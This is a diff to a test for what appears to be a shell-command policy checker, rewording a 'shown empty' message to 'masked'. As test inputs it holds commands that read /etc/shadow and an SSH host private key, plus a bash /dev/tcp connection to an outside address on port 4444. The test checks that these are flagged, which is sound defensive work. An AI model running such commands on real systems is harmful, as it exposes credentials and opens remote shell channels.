@@ -226,9 +226,9 @@ class BuiltIn(PolicyCase):
     def test_secret_then_network(self) -> None:
         harness.need("bash")
         self.judged("cat /etc/shadow > /dev/null", YELLOW, "secret.read")
-        if os.path.exists("/etc/ssh/ssh_host_rsa_key"):  # shown empty: what it would have done with the key is not known
+        if os.path.exists("/etc/ssh/ssh_host_rsa_key"):  # masked: what it would have done with the key is not known
             masked = self.judged("cat /etc/ssh/ssh_host_rsa_key; exit 0", YELLOW, "secret.read", "core.fidelity")
-            self.assertIn("read though shown empty: /etc/ssh/ssh_host_rsa_key", [gap["what"] for gap in masked.doc["fidelity"]["gaps"]])
+            self.assertIn("read though masked: /etc/ssh/ssh_host_rsa_key", [gap["what"] for gap in masked.doc["fidelity"]["gaps"]])
         self.judged("cat /etc/shadow > /dev/null; getent hosts example.com; exit 0", RED, "secret.passwords-then-connect")
         self.judged("bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444'; exit 0", RED, "net.shell-connects")
 
